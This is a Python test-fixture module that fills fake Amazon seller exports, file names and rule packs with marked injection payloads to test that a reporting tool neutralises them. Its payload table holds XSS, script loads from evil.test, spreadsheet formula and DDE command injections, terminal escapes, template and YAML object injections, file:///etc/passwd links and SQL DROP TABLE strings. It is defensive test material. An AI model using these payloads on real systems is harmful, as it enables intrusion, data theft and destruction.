"""Texts that would act where somebody shows them unguarded, and a shop whose files, folders and rules are full of them.

Each payload carries a mark of its own (`zq007k`), by which it is found again wherever it arrives; in names that a page to share
must not tell the mark is another one (`hq007k`). What would run sets `window.live`; what would be fetched is at `evil.test`.
"""

import csv
import gzip
import io
import json
import re
import zipfile
from collections import Counter
from dataclasses import dataclass
from decimal import Decimal

import yaml
from canaries import plausible

from orderkit import places
from orderkit.analyses import naming
from orderkit.formats import formats

KINDS = {
    "html": [
        "<b>@@</b>", '"><img src=x onerror=live=1>@@', "'><svg onload=live=1>@@", '<iframe src="https://evil.test/@@"></iframe>',
        '<a href="https://evil.test/@@">@@</a>', "</td></tr></table></main><h1>@@</h1>", "<!--@@",
        "</title></style></textarea>@@<u>",
        "<meta http-equiv=refresh content=0;url=https://evil.test/@@>", "<base href=https://evil.test/@@/>",
        "<form action=https://evil.test/@@><input autofocus onfocus=live=1>", "<details open ontoggle=live=1>@@",
        "&lt;img src=x onerror=live=1&gt;@@", "<math><mtext><mglyph><style></math><img src onerror=live=1>@@",
        '" onmouseover="live=1" x="@@', "<style>*{background:url(https://evil.test/@@)}</style>", "&#60;b&#62;@@&#60;/b&#62;",
    ],
    "script": [
        "<script>live=1</script>@@", "</script><script>live=1//@@", "<script src=https://evil.test/@@.js></script>",
        "'-live(1)-'@@", '";live=1;//@@', "\\u003cscript>live=1//@@", "</ScRiPt ><sCrIpT>live=1</sCrIpT>@@",
        "<svg><script>live=1</script>@@", "-->]]></noscript><script>live=1</script>@@", "`;live=1;`${live=1}@@",
    ],
    "formula": [
        "=1+1+@@", '=HYPERLINK("https://evil.test/@@","x")', "=cmd|' /C calc'!A0@@", "+1+2+@@", "-2+3+@@", "@SUM(1+1)*@@",
        "\t=1+@@", "\r=1+@@", " =1+@@", "\uff1d1+@@", "\uff0b1+@@", "\uff0d1+@@", "\uff20SUM(@@)", '=DDE("cmd";"/C calc";"@@")',
        '=WEBSERVICE("https://evil.test/@@")', "'=1+@@", '"=1+@@"', ";=1+@@", "{=1+@@}", "\u00a0=1+@@",
    ],
    "terminal": [
        "\x1b[2J@@", "\x1b]8;;https://evil.test/@@\x1b\\x\x1b]8;;\x1b\\", "\x1b]0;@@\x07", "@@\x08\x08\x08\x08", "@@\x7f\x7f",
        "\x1bP@@\x1b\\", "\x9b2J@@", "\x9d0;@@\x9c", "mug @@\rFORGED", "mug @@\nFORGED", "\u202egnp.@@", "\u2066@@\u2069",
        "a\u200b@@\u200db", "\u2028FORGED @@", "\ufeff@@", "\U000e0041@@", "\x07@@", "\u061c@@\u180e",
    ],
    "template": [
        "{{7*7}}@@", "{% for x in ().__class__ %}@@{% endfor %}", "{0}@@", "{@@}", "{x.__class__}@@", "%(x)s@@", "%s%n@@",
        "${7*7}@@", "#{7*7}@@", "%{y}%{customdata[0]}%{text}@@", "<extra>@@</extra>", '<a href="javascript:live=1">@@</a>',
        "<br>@@<sub>", "!!python/object/apply:os.system ['@@']", "&a [*a, @@: {", "$\\href{javascript:live=1}{@@}$",
        "a | @@ | b |", "{self.db!r}@@", "[@@](javascript:live=1)", "![@@](https://evil.test/@@)", "f'{live}'@@", "<%= 7*7 %>@@",
    ],
    "link": [
        "javascript:live=1//@@", "data:text/html,<script>live=1</script>@@", "file:///etc/passwd?@@", "vbscript:live(1)@@",
        "\\\\evil.test\\share\\@@", "//evil.test/@@", "https://evil.test/@@", "java\nscript:live=1//@@", " javascript:live=1//@@",
        "https://sellercentral.amazon.com@evil.test/@@", "mailto:x@evil.test?subject=@@", "../../../@@", "internal:Sheet1!A1@@",
        "external:\\\\evil.test\\@@.xlsx", "ftp://evil.test/@@", "https://sellercentral.amazon.com.evil.test/@@",
    ],
    "sql": [
        "'; DROP TABLE order_lines; --@@", '" OR ""="@@', "x' UNION SELECT * FROM loads --@@", "$file_id :id ? @@",
        "%' ESCAPE '@@", "E'\\'@@", "@@'||(SELECT 1)||'", '"); COPY loads TO \'@@.csv\'; --',
    ],
}  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """A text that would act, what kind it is of, and its mark."""

    kind: str
    mark: str
    text: str


def _payloads():
    texts = [(kind, text) for kind, found in KINDS.items() for text in found]
    return [Payload(kind, f"zq{n:03}k", text.replace("@@", f"zq{n:03}k")) for n, (kind, text) in enumerate(texts)]


PAYLOADS = _payloads()
COUNTS = Counter(payload.kind for payload in PAYLOADS)
MARK, HIDDEN_MARK = re.compile(r"[zh]q\d{3}k"), re.compile(r"hq\d{3}k")
CONTROL, BREAKS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]"), re.compile(r"[\t\n\r]")


def marks(text):
    """The marks that stand in a text, whether or not they are those of hidden names."""
    return {f"z{found[1:]}" for found in MARK.findall(text)}


def kinds(text):
    """The kinds of payloads that arrived in a text."""
    found = marks(text)
    return {payload.kind for payload in PAYLOADS if payload.mark in found}


def hidden(text):
    """A text as the name of something that a page to share does not tell."""
    return text.replace("zq", "hq")


def in_cells(kind="text"):
    """The payloads that a load lets into cells: control characters set a line aside, ids are one line."""
    fit = [payload for payload in PAYLOADS if not CONTROL.search(payload.text)]
    return [payload for payload in fit if kind == "text" or not BREAKS.search(payload.text)]


def in_file_names():
    """The payloads as a file may be named: without / and NUL, not hidden."""
    return [payload.text.replace("/", "\u2215").lstrip(".") for payload in PAYLOADS]


ACCOUNT = hidden(" ".join(payload.text for payload in PAYLOADS))


class _Cells:
    """Gives each value of a column a payload of its own: the same value is the same one in every file."""

    def __init__(self):
        self.given = {}

    def text(self, column, value, plain, secret):
        """The payload that stands for a value; plain: whether it must fit in a field without quotes; secret: a hidden name."""
        known = self.given.setdefault(column, {})
        if value not in known:
            fit = in_cells("id" if plain else "text")
            payload = fit[(len(known) + 17 * len(self.given)) % len(fit)]
            again = f" {len(known)}" if len(known) >= len(fit) else ""
            known[value] = (hidden(payload.text) if secret else payload.text) + again
        return known[value]


SAME = {  # columns that name one thing in several exports
    "sku": "sku", "Merchant SKU": "sku", "tracking": "tracking", "tracking_number": "tracking", "Tracking ID": "tracking",
    "carrier": "carrier", "service": "service", "Return carrier": "carrier",
}  # fmt: skip
KEYS = ("order_id", "order_item_id", "order_item_code", "settlement_id")  # they tie the exports together
ONE_IN = 24  # of the sample's orders
FEW = 24  # rows of an export that the sample has none of
SOME = 6  # of so many rows the words that decide something are hostile too: a status, a reason


def _ours(form):
    """Names of columns whose words mean something to orderkit: replaced all over, nothing would be left to show."""
    given = [given for emit in form.emits.values() for given in emit.given.values() if given.sql != "{0}"]
    return {name for each in given for name in each.sources} | {"status_as_exported"}


def _secret(form):
    """Names of columns that hold what a page to share does not tell."""
    told = {*naming.COLUMNS, *naming.WRITTEN}
    emits = form.emits.values()
    given = {name for emit in emits for given in emit.given.values() if given.target in told for name in given.sources}
    return given | {name for emit in emits for target, name in emit.keys.items() if target in told}


def _rows(form, text, cells):
    """The lines of an export of the sample with payloads in all its free words; fewer orders of it."""
    quoted = form.quotes(form.delimiter)
    read = list(csv.reader(io.StringIO(text), delimiter=form.delimiter, quoting=csv.QUOTE_MINIMAL if quoted else csv.QUOTE_NONE))
    headers = read[0]
    columns, decide, secret = [form.column(header) for header in headers], _ours(form), _secret(form)
    order = next((at for at, column in enumerate(columns) if column and column.name in ("order_id", "amazon_order_id")), None)
    for number, row in enumerate(read[1:]):
        if order is not None and row[order] and int(re.sub(r"\D", "", row[order])[-5:]) % ONE_IN:
            continue
        if form.name == "tariffs" and "USD" not in row:
            continue
        for at, column in enumerate(columns):
            free = column is not None and column.type in ("text", "comment", "id") and column.name not in KEYS
            if not free or not row[at].strip() or (column.name in decide and number % SOME):
                continue
            plain = column.type == "id" or not quoted or headers[at] in SAME
            row[at] = cells.text(SAME.get(headers[at], f"{form.name}.{column.name}"), row[at], plain, column.name in secret)
        yield row


def _written(form, headers, rows):
    out = io.StringIO()
    quoted = form.quotes(form.delimiter)
    if quoted:
        csv.writer(out, delimiter=form.delimiter, lineterminator="\n").writerows([headers, *rows])
        return out.getvalue()
    return "\n".join(form.delimiter.join(row) for row in [headers, *rows]) + "\n"


OF = {
    "all-orders": "amazon_all_orders", "claims": "claims", "costs": "costs", "fba-returns": "amazon_fba_customer_returns",
    "inspections": "inspections", "order-report": "amazon_order_report", "requests": "requests", "returns": "amazon_mfn_returns",
    "tariffs": "tariffs", "tracking": "tracking",
}  # fmt: skip


def _sample():
    """(format, text) of the sample's exports."""
    known = formats()
    for path in sorted(places.sample().iterdir()):
        if path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                yield from ((known["amazon_settlement_v2"], archive.read(name).decode()) for name in archive.namelist())
            continue
        text = (gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()).decode("utf-8-sig")
        yield known[OF[path.name.split("-2026")[0].split(".")[0]]], text


def _others(cells):
    """(format, headers, rows) of exports that the sample has none of."""
    for name in ("labels", "decisions", "amazon_feedback", "amazon_fba_reimbursements"):
        form = formats()[name]
        headers = next(iter(form.variants.values()))
        rows = []
        for number in range(FEW):
            columns = [form.column(header) for header in headers]
            free = [column.type in ("text", "comment", "id") for column in columns]
            plain = [column.type == "id" or not form.quotes(form.delimiter) for column in columns]
            rows.append([
                cells.text(f"{name}.{column.name}", number, one_line, column.name in _secret(form)) if is_free
                else plausible(column, number + 1, False) for column, is_free, one_line in zip(columns, free, plain, strict=True)
            ])  # fmt: skip
        yield form, headers, rows


OWN = {
    "title": "Orders of my own", "find": "here", "unlocks": "orders", "delimiter": "comma",
    "signature": ["my order", "bought", "ship until", "my product"], "needs": ["my order"], "known_at": {"file_end": ["bought"]},
    "columns": {
        "my order": "id", "my sku": "id", "my product": "text", "site": "text", "price": "money",
        "bought": {"type": "day", "formats": ["%Y-%m-%d"]}, "ship until": {"type": "day", "formats": ["%Y-%m-%d"]},
    },
    "emits": {"order_lines": {
        "keys": {"order_id": "my order", "sku": "my sku"}, "anchor": "bought", "rank": 9,
        "fixed": {"product_name": "my product", "item_price": "price", "marketplace": "site", "currency": {"value": "USD"},
                  "channel": {"value": "FBM"}, "ordered_at": "bought", "units": {"value": 1}, "ship_by": "ship until"},
        "state": {"status": {"value": "unshipped"}},
    }},
}  # fmt: skip


def own_format():
    """A format of the user's own with payloads for title and constants."""
    said = " ".join(payload.text for payload in PAYLOADS)
    lines = OWN["emits"]["order_lines"]
    fixed = {**lines["fixed"], "status_as_exported": {"value": said}}
    return {**OWN, "title": said, "find": said, "unlocks": said, "emits": {"order_lines": {**lines, "fixed": fixed}}}


def _own_orders():
    fit = in_cells("id")
    for number, payload in enumerate(fit):
        site = fit[number % 5 + number // 5 * 5].text.lower() if number % 5 == 0 else "amazon.com"
        names = [hidden(each.text) for each in (payload, fit[-number], fit[number - 7])]
        yield [*names, site, "12.50", "2026-11-09", "2026-11-12"]


PACK = """\
pack: own
title: {said}
reviewed: 2026-11-22
statements: {{"1 (1)": {said}}}
answers:
  refund: {{meaning: {said}, acts: [refund]}}
  tell: {{meaning: {said}}}
parameters:
  patience:
    unit: day
    applies_by: ordered_day
    values:
      2024-01-01: {{value: 3, source: {source}, certainty: A}}
questions:
  not_received:
    of: order_lines
    rules:
      - rule: lost
        when: "tracking = 'lost'"
        then: refund
        who_pays: seller
        recovery_source: none
        source: {source}
        deadline: plus_days(ship_by_day, patience)
        draft: {draft}
      - {{rule: rest, when: "true", then: tell, who_pays: nobody, recovery_source: none, source: {source}, draft: {draft}}}
    examples:
      - {{given: {{tracking: lost}}, expect: refund}}
"""


def own_pack():
    """A pack of the user's own with payloads for all its words; letters that nobody sees are refused in it."""
    seen = [payload.text for payload in PAYLOADS if payload.text.isprintable()]
    plain = [text for text in seen if not set("{}\\") & set(text)]
    return PACK.format(said=json.dumps(" ".join(seen)), draft=json.dumps(" ".join(plain)), source=json.dumps(" ".join(plain)))


def write(folder):
    """Writes the exports into `folder`/exports, under names of all kinds, and the user's own format and pack beside the database.

    The seller's exports tell of some hundred orders of the sample; every free word in them is a payload.
    """
    exports, free, cells = folder / "exports", iter(in_file_names()), _Cells()
    exports.mkdir()
    (folder / "formats").mkdir()
    (folder / "formats" / "own.yaml").write_text(yaml.safe_dump(own_format(), allow_unicode=True), encoding="utf-8")
    files = [(form, *_halves(form, text, cells)) for form, text in _sample()]
    files += [*_others(cells), (None, [*OWN["columns"]], [*_own_orders()])]
    (folder / "packs").mkdir()
    (folder / "packs" / "own.yaml").write_text(own_pack(), encoding="utf-8")
    for form, headers, rows in files:
        text = _written(form, headers, rows) if form else _written(formats()["costs"], headers, rows)
        (exports / f"{next(free)}.txt").write_text(text, encoding="utf-8", newline="")
    bad = [
        [hidden(payload.text), "x", hidden(payload.text), "amazon.com", "1", "2026-11-09", "2026-11-12"] for payload in PAYLOADS
    ]
    (exports / "set aside.csv").write_text(_written(formats()["costs"], [*OWN["columns"]], bad), encoding="utf-8", newline="")
    for name in free:
        (exports / f"{name}.txt").write_text("no export\n", encoding="utf-8")
    return exports


def _halves(form, text, cells):
    headers = next(csv.reader(io.StringIO(text), delimiter=form.delimiter))
    rows = list(_rows(form, text, cells))
    if form.file_total:
        _add_up(headers, rows)
    return headers, rows


def _add_up(headers, rows):
    """Settlements state what their lines sum to: of fewer lines it is less."""
    settlement, total, amount = map(headers.index, ("settlement-id", "total-amount", "amount"))
    sums = Counter()
    for row in rows:
        sums[row[settlement]] += Decimal(row[amount].replace(",", ".") or 0)
    for row in rows:
        if row[total]:
            row[total] = str(sums[row[settlement]]).replace(".", "," if "," in row[total] else ".")
